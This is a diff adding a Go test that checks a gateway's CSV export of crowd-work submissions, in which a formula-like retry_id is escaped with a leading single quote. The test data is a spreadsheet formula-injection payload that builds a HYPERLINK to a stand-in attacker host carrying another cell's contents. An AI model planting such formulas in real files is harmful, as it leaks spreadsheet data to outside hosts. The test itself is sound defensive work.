@@ -312,3 +312,31 @@ func TestExportWalksManyBatches(t *testing.T) {
 		t.Errorf("resumed at row %d: %d rows", at, len(lines))
 	}
 }
+
+// A dashboard user downloads a pool's submissions as CSV and opens it in a
+// spreadsheet. A retry_id (any printable ASCII, stored as sent) that looks
+// like a formula is shown as text: the cell starts with a single quote.
+func TestACSVExportShowsARetryIDThatLooksLikeAFormulaAsText(t *testing.T) {
+	env := gatewaytest.Start(t, gatewaytest.Options{})
+	ctx := env.Ctx()
+	p := env.OpenPool(ctx, env.NewAPIKey("acme"))
+	s, err := env.Sessions.StartSession(ctx, &crowdgatev1.StartSessionRequest{AssignmentId: env.StartAssignment(p, "toloker-1")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	payload := `=HYPERLINK("https://evil.example/x?"&B2,"Open")` // no spaces: a valid retry_id
+	if _, err := env.Submissions.Submit(ctx, &crowdgatev1.SubmitRequest{SessionId: s.GetSession().GetSessionId(), Reward: "0.10", RetryId: payload}); err != nil {
+		t.Fatalf("Submit: %v", err)
+	}
+	code, body := env.RESTRaw(http.MethodGet, "/v1/pools/"+p.GetPoolId()+"/submissions:export", "", "Accept", "text/csv")
+	if code != http.StatusOK {
+		t.Fatalf("export: %d %s", code, body)
+	}
+	recs := readCSV(t, body)
+	if got := column(t, recs, "retry_id"); len(got) != 1 || got[0] != "'"+payload {
+		t.Errorf("retry_id cells %q, want [%q]", got, "'"+payload)
+	}
+	if got := column(t, recs, "reward"); len(got) != 1 || got[0] != "0.10" {
+		t.Errorf("reward cells %q, want [0.10]", got)
+	}
+}
